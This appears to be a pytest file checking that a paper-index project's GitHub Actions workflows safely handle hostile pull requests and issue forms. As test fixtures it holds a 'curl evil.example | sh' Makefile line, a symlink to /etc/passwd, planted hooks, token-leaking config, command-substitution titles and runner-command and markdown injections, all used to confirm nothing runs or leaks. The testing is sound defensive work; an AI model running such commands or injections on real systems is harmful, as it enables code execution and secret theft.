"""The scripts of the workflows, run on real git repositories that strangers write to."""

from __future__ import annotations

import json
import os
import re
from typing import TYPE_CHECKING

import pytest

from conftest import PAPER, POTS, TAGS, write_files
from paper_index.content.layout import Layout
from paper_index.workflows.fmt import format_content
from support.commands import run
from support.forked import program
from support.made_up_history import commit, git
from support.made_up_services import Preprint, Reply, Services
from support.workflow_steps import ASKING_PROGRAM, REMOTE, Runner, needs_tools, write_script

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    MakeIndex = Callable[[dict[str, str | bytes]], Layout]

# Each runs several processes.
pytestmark = [needs_tools, pytest.mark.slow]

MARK = "<!-- paper-index: summary -->"
TITLE = "@everyone see #1, GH-2 <img src=https://evil.example> [here](https://evil.example)"


@pytest.fixture
def runner(make_index: MakeIndex, tmp_path_factory: pytest.TempPathFactory) -> Runner:
    """The checkout of a repository's main branch; others push to its remote."""
    layout = make_index(
        {"content/papers/tea.yml": PAPER, ".gitignore": ".venv\n/change/\n/summary/\n/changes.md\n"}
    )
    format_content(layout, write=True)
    commit(layout.root)
    folder = tmp_path_factory.mktemp("github")
    git(layout.root, "init", "-q", "--bare", str(folder / "remote"))
    git(layout.root, "push", "-q", str(folder / "remote"), "HEAD:main")
    return Runner(layout.root, folder / "remote", folder / "tools")


def push(runner: Runner, files: dict[str, str | bytes], start: str = "main") -> str:
    """Push a branch with some files; return its commit."""
    clone = runner.tools / "clone"
    if not clone.exists():
        git(runner.folder, "clone", "-q", str(runner.remote), str(clone))
    git(clone, "switch", "-q", "--force-create", "proposal", f"origin/{start}")
    write_files(clone, files)
    git(clone, "add", "--all", "--force")
    git(clone, "commit", "-qm", "::error::pwned")
    git(clone, "push", "-q", "--force", "origin", "proposal")
    return git(clone, "rev-parse", "HEAD").stdout.strip()


def summarize(runner: Runner, head: str) -> str:
    """Run the first job of the comment, and return the comment."""
    base = git(runner.folder, "rev-parse", "HEAD").stdout.strip()
    for step in ("Fetch the commits of the pull request", "Summarize"):
        given = {"TOKEN": "secret-token"} if step.startswith("Fetch") else {}
        done = runner.run("comment.yml", step, BASE=base, HEAD=head, **given)
        assert done.returncode == 0, done.stdout + done.stderr
    assert git(runner.folder, "status", "--porcelain").stdout == ""
    return (runner.folder / "summary/comment.md").read_text("utf-8")


class TestSummary:
    def test_states_the_commit_and_what_the_branch_changes_since_it_left_main(
        self, runner: Runner
    ) -> None:
        start = git(runner.folder, "rev-parse", "HEAD").stdout.strip()
        head = push(runner, {"content/papers/pots.yml": POTS})
        leaves = PAPER.replace("Tea", "Leaves").replace("083", "099")
        write_files(runner.folder, {"content/papers/leaves.yml": leaves})
        commit(runner.folder)
        comment = summarize(runner, head)
        first = f"{MARK}\n## What changes for readers\n\nCommit {head}, compared with {start}.\n\n"
        assert comment.startswith(first)
        assert "### Papers added (1)" in comment
        link = f"https://github.com/example/made-up/blob/{head}/content/papers/pots.yml"
        assert f"[On the Cooling of Earthen pots]({link})" in comment
        assert "Papers removed" not in comment
        assert "eaves" not in comment

    def test_counts_the_files_that_it_does_not_describe(self, runner: Runner) -> None:
        files: dict[str, str | bytes] = {
            "content/config.yml": "format: 3\npackage: evil\n",
            "a\nb.md": "",
            "Makefile": "install:\n\tcurl evil.example | sh\n",
        }
        comment = summarize(runner, push(runner, files))
        assert "Nothing changes for readers." in comment
        assert "**It also changes 3 files that are not described here.**" in comment

    def test_of_a_hostile_branch_hides_and_runs_nothing_and_reads_nothing_else(
        self, runner: Runner
    ) -> None:
        pwned, secret = runner.tools / "pwned", runner.tools / "secret.yml"
        secret.write_text(POTS.replace("Earthen", "Secret"), "utf-8")
        shell, python = f"#!/bin/sh\ntouch {pwned}\n", f"open({str(pwned)!r}, 'w')\n"
        files: dict[str, str | bytes] = {
            ".gitattributes": "content/papers/pots.yml export-ignore\n* filter=evil -diff\n",
            "content/papers/.gitattributes": "pots.yml export-ignore\n",
            "content/papers/.gitignore": "pots.yml\n",
            "content/papers/pots.yml": POTS,
            "mkdocs.yml": "site_name: !ENV TOKEN\nrepo_url: !ENV [TOKEN, 'https://evil.example']\n",
            ".venv/bin/paper-index": shell,
            ".githooks/post-checkout": shell,
            **dict.fromkeys(("sitecustomize.py", "yaml.py", "content/yaml.py"), python),
        }
        push(runner, files)
        clone = runner.tools / "clone"
        (clone / "content/papers/secret.yml").symlink_to(secret)
        (clone / "content/papers/more").symlink_to(runner.tools)
        (clone / "content/authors.yml").symlink_to("/etc/passwd")
        head = commit(clone)
        git(clone, "push", "-q", "--force", "origin", "proposal")
        comment = summarize(runner, head)
        assert "### Papers added (1)" in comment
        assert "Earthen pots" in comment
        assert not re.search("ecret|root:|evil", comment)
        assert not pwned.exists()

    def test_text_of_a_branch_stays_text(self, runner: Runner) -> None:
        evil = PAPER.replace("On the Cooling of Tea", f"'{TITLE}'").replace("083", "099")
        name = "x](https://evil.example) @everyone ![a](https://evil.example/a.png)"
        files: dict[str, str | bytes] = {
            "content/papers/evil.yml": evil,
            f"content/papers/{name}.yml": evil.replace("evil", "worse"),
            "content/papers/one\n# Heading @everyone\n.yml": POTS,
            "content/papers/::error::two.yml": "title: [\n",
            os.fsdecode(b"content/papers/\xff.yml"): POTS,
            "content/tags.yml": f'{TAGS}  "` @everyone [b](https://evil)": {{name: "@everyone"}}\n',
            "content/permalinks.txt": "papers/<img src=x>@everyone/\n",
        }
        comment = summarize(runner, push(runner, files))
        assert "evil" in comment
        assert not re.search(r"@\w|(?<!&)#\d|GH-\d|<(?!!-- paper-index)|!\[|https://evil", comment)
        links = re.findall(r"\]\(([^)]*)\)", comment)
        assert links
        assert all(link.startswith("https://github.com/example/made-up/blob/") for link in links)

    def test_a_summary_that_cannot_be_made_fails(self, runner: Runner) -> None:
        head = push(runner, {"content/config.yml": "format: 99\n"})
        base = git(runner.folder, "rev-parse", "HEAD").stdout.strip()
        given = {"BASE": base, "HEAD": head}
        runner.run("comment.yml", "Fetch the commits of the pull request", TOKEN="t", **given)
        done = runner.run("comment.yml", "Summarize", **given)
        assert done.returncode != 0
        assert done.stdout.startswith("::stop-commands::")


class TestComment:
    STEP = "Write the comment, or replace it"

    def write(self, runner: Runner, head: str = "abc") -> list[list[str]]:
        done = runner.run("comment.yml", self.STEP, GH_TOKEN="t", NUMBER="7", HEAD=head)
        assert done.returncode == 0, done.stdout + done.stderr
        return [call for call in runner.calls if "--method" in call]

    @pytest.fixture
    def summary(self, runner: Runner) -> Path:
        write_files(runner.folder, {"summary/comment.md": f"{MARK}\nText\n"})
        runner.answer(pull={"head": {"sha": "abc"}})
        return runner.folder / "summary/comment.md"

    @pytest.mark.usefixtures("summary")
    def test_is_new_when_only_others_commented(self, runner: Runner) -> None:
        others = [
            {"id": 1, "user": {"login": "mallory"}, "body": MARK},
            {"id": 2, "user": {"login": "other[bot]"}, "body": MARK},
            {"id": 3, "user": {"login": "github-actions[bot]"}, "body": f"Quoted: {MARK}"},
        ]
        runner.answer(comments=others)
        (call,) = self.write(runner)
        assert call[2:5] == ["--method", "POST", "repos/me/teas/issues/7/comments"]
        assert call[5:] == ["--field", "body=@summary/comment.md"]

    @pytest.mark.usefixtures("summary")
    def test_replaces_our_own(self, runner: Runner) -> None:
        ours = [
            {"id": 1, "user": {"login": "mallory"}, "body": MARK},
            {"id": 9, "user": {"login": "github-actions[bot]"}, "body": f"{MARK}\nOld"},
        ]
        runner.answer(comments=ours)
        (call,) = self.write(runner)
        assert call[2:5] == ["--method", "PATCH", "repos/me/teas/issues/comments/9"]

    @pytest.mark.usefixtures("summary")
    def test_of_a_commit_that_is_no_longer_the_newest_is_not_written(self, runner: Runner) -> None:
        assert self.write(runner, "older") == []

    def test_says_when_there_is_no_summary(self, runner: Runner, summary: Path) -> None:
        summary.unlink()
        assert len(self.write(runner)) == 1
        assert summary.read_text("utf-8") == (
            f"{MARK}\nThere is no summary of commit abc: "
            "see [the log](https://github.example/me/teas/actions/runs/5).\n"
        )


FORM = """\
### Title

{title}

### Authors

Ada Brown

### arXiv id or DOI

_No response_

### Published

2024

### Venue

_No response_

### Tags

{tags}

### Abstract

We bake clay, and wait until it is cold.
"""


class TestFromIssue:
    def apply(self, runner: Runner, body: str) -> str:
        runner.answer(event={"issue": {"body": body, "number": 7}})
        done = runner.run("from-issue.yml", "Turn the form into a change")
        assert done.returncode == 0, done.stdout + done.stderr
        assert done.stdout == ""  # commands to the runner would be obeyed there
        return (runner.tools / "output").read_text("utf-8")

    def test_a_form_becomes_a_branch_and_a_pull_request(self, runner: Runner) -> None:
        form = FORM.format(title="Of $(touch pwned) `touch pwned`; Pots", tags="cup-theory")
        assert self.apply(runner, form) == "applied=true\n"
        git(runner.folder, "reset", "-q", "--hard")  # the second job has a checkout of its own
        runner.run("from-issue.yml", "Quote the message")
        done = runner.run(
            "from-issue.yml", "Open the pull request", GH_TOKEN="secret-token", NUMBER="7"
        )
        assert done.returncode == 0, done.stdout + done.stderr
        (call,) = runner.calls
        assert call[:4] == ["pr", "create", "--head", "issue-7"]
        shown = git(runner.remote, "show", "--name-status", "--format=%s", "issue-7").stdout
        assert shown.startswith("Take up what issue 7 proposes\n")
        assert "A\tcontent/papers/of-touch-pwned-touch-pwned-pots.yml" in shown
        assert all(line[2:].startswith("content/") for line in shown.splitlines()[2:])
        assert not list(runner.folder.rglob("pwned"))

    def test_a_patch_that_leaves_content_is_cut(self, runner: Runner) -> None:
        write_files(runner.folder, {"content/papers/pots.yml": POTS, "Makefile": "evil"})
        git(runner.folder, "add", "--all")
        write_files(
            runner.folder, {"change/content.patch": git(runner.folder, "diff", "--cached").stdout}
        )
        git(runner.folder, "reset", "-q", "--hard")
        write_files(runner.folder, {"change/message.txt": "added"})
        runner.run("from-issue.yml", "Quote the message")
        runner.run("from-issue.yml", "Open the pull request", GH_TOKEN="secret-token", NUMBER="7")
        assert git(runner.remote, "show", "--name-only", "--format=", "issue-7").stdout == (
            "content/papers/pots.yml\n"
        )

    def test_what_is_wrong_is_said_in_a_block_of_code(self, runner: Runner) -> None:
        body = "::set-output name=applied::true\r@everyone ![x](y)"
        assert self.apply(runner, body) == "applied=false\n"
        message = runner.folder / "change/message.txt"
        message.write_text(f"{message.read_text('utf-8')}a\r@everyone\n\n![x](y)\f# b\n", "utf-8")
        runner.run("from-issue.yml", "Quote the message")
        runner.run("from-issue.yml", "Say what is wrong", GH_TOKEN="t", NUMBER="7")
        assert runner.calls == [["issue", "comment", "7", "--body-file", "change/comment.md"]]
        first, empty, *rest = (runner.folder / "change/comment.md").read_text("utf-8").split("\n")
        assert (first, empty) == ("This form could not be taken up:", "")
        assert all(line.startswith("    ") for line in rest if line)


CANDIDATES = "<!-- paper-index: candidates -->\n\n- [ ] Add `arXiv:2611.00001`\n"


class TestCandidates:
    def issue(self, body: str, user: str = "github-actions[bot]") -> dict[str, object]:
        return {"number": 9, "user": {"login": user}, "body": body}

    def publish(self, runner: Runner) -> list[list[str]]:
        done = runner.run("watch.yml", "Write the issue, or replace its text", GH_TOKEN="t")
        assert done.returncode == 0, done.stdout + done.stderr
        return [call for call in runner.calls if call[0] != "api"]

    def test_a_first_issue_gets_its_label(self, runner: Runner) -> None:
        assert runner.run("watch.yml", "Read the issue", GH_TOKEN="t").returncode == 0
        label, create = self.publish(runner)
        assert label[:3] == ["label", "create", "candidates"]
        assert create[:2] == ["issue", "create"]
        assert create[-2:] == ["--body-file", "candidates/after.md"]

    @pytest.mark.parametrize("edited", [False, True])
    def test_the_text_is_replaced_unless_somebody_edited_it(
        self, runner: Runner, *, edited: bool
    ) -> None:
        runner.answer(issues=[self.issue("Other", "mallory"), self.issue(CANDIDATES)])
        assert runner.run("watch.yml", "Read the issue", GH_TOKEN="t").returncode == 0
        before = (runner.folder / "candidates/before.md").read_text("utf-8")
        assert before == f"{CANDIDATES}\n"
        if edited:
            runner.answer(issues=[self.issue(CANDIDATES.replace("[ ]", "[x]"))])
        calls = self.publish(runner)
        assert [call[:3] for call in calls] == ([] if edited else [["issue", "edit", "9"]])

    def test_what_is_ticked_is_proposed_and_the_issue_stays_open(self, runner: Runner) -> None:
        runner.answer(event={"issue": {"body": CANDIDATES, "number": 7}})
        done = runner.run("from-issue.yml", "Turn the form into a change", BY="ada")
        assert done.returncode == 0, done.stderr
        output = (runner.tools / "output").read_text("utf-8")
        assert output == "candidates=true\napplied=false\n"
        assert "no box is ticked" in (runner.folder / "change/message.txt").read_text("utf-8")
        write_files(
            runner.folder, {"content/papers/pots.yml": POTS, "change/message.txt": "@all\n"}
        )
        git(runner.folder, "add", "--all")
        patch = git(runner.folder, "diff", "--cached").stdout
        write_files(runner.folder, {"change/content.patch": patch})
        git(runner.folder, "reset", "-q", "--hard")
        assert runner.run("from-issue.yml", "Quote the message").returncode == 0
        given = {"GH_TOKEN": "secret-token", "NUMBER": "7", "CANDIDATES": "true"}
        done = runner.run("from-issue.yml", "Open the pull request", **given)
        assert done.returncode == 0, done.stderr
        create, edit = runner.calls
        assert create[:4] == ["pr", "create", "--head", "candidates-5"]
        assert edit == ["issue", "edit", "7", "--remove-label", "accepted"]
        body = (runner.folder / "change/body.md").read_text("utf-8")
        assert body == "Takes up candidates of #7.\n\n    @all\n"


def test_the_digest_s_state_is_the_only_commit_of_its_branch(runner: Runner) -> None:
    (runner.folder / "digest.json").write_text("{}", "utf-8")
    for _ in range(2):
        done = runner.run("digest.yml", "Push the state", TOKEN="secret-token")
        assert done.returncode == 0, done.stderr
        assert "secret-token" not in done.stdout
    log = git(runner.remote, "log", "--format=%s", "--name-only", "digest-state").stdout
    assert log == "Last digest\n\ndigest.json\n"
    assert json.loads(git(runner.remote, "show", "digest-state:digest.json").stdout) == {}
    assert REMOTE.endswith("@github.example/me/teas")


class TestRefresh:
    MONDAY = "23 5 * * 1"
    WITHDRAWN = "This paper has been withdrawn by the authors, see @everyone ](https://evil)"

    @pytest.fixture
    def asking(self, runner: Runner, services: Services) -> Runner:
        write_script(runner.folder / ".venv/bin/paper-index", program(ASKING_PROGRAM))
        runner.environment["SERVICES"] = services.root
        return runner

    def ask(self, runner: Runner, schedule: str = "") -> str:
        """Run the first job, and return the branch that it names, "" if nothing changed."""
        output = runner.tools / "output"
        output.write_text("", "utf-8")
        given = {"SCHEDULE": schedule, **runner.environment}
        done = runner.run("refresh.yml", "Ask the services", **given)
        assert done.returncode == 0, done.stdout + done.stderr
        return output.read_text("utf-8").strip().removeprefix("branch=")

    def test_a_withdrawal_becomes_a_pull_request_once_and_is_shown_on_the_site(
        self, asking: Runner, services: Services
    ) -> None:
        title = "On the Cooling of Tea"
        services.preprints = [Preprint("2104.06083", title, comment=self.WITHDRAWN)]
        branch = self.ask(asking, self.MONDAY)
        assert re.fullmatch("retractions-[0-9a-f]{12}", branch)
        body = (asking.folder / "change/body.md").read_text("utf-8")
        assert "status: nothing → withdrawn" in body
        assert not re.search(r"@\w|https://evil", body)
        git(asking.folder, "reset", "-q", "--hard")
        given = {"GH_TOKEN": "secret-token", "BRANCH": branch}
        for _ in range(2):
            done = asking.run("refresh.yml", "Open the pull request", **given)
            assert done.returncode == 0, done.stdout + done.stderr
        (call,) = asking.calls
        assert call[:4] == ["pr", "create", "--head", branch]
        changed = git(asking.remote, "diff", "--name-only", "main", branch).stdout.split()
        assert changed == ["content/papers/tea.yml"]
        assert run(Layout(asking.folder), "build").exit_code == 0
        page = (asking.folder / "site/papers/tea/index.html").read_text("utf-8")
        assert "This paper was withdrawn" in page

    def test_a_monday_without_news_proposes_nothing(
        self, asking: Runner, services: Services
    ) -> None:
        services.preprints = [Preprint("2104.06083", "On the Cooling of Tea")]
        assert self.ask(asking, self.MONDAY) == ""

    def test_each_month_has_its_branch_even_if_a_service_is_busy(
        self, asking: Runner, services: Services
    ) -> None:
        services.broken = {"/openalex/": Reply(403)}
        services.preprints = [Preprint("2104.06083", "On the Cooling of Tea")]
        assert re.fullmatch(r"refresh-20\d\d-[01]\d", self.ask(asking))
        body = (asking.folder / "change/body.md").read_text("utf-8")
        assert "1 of 1 paper with an identifier answered" in body
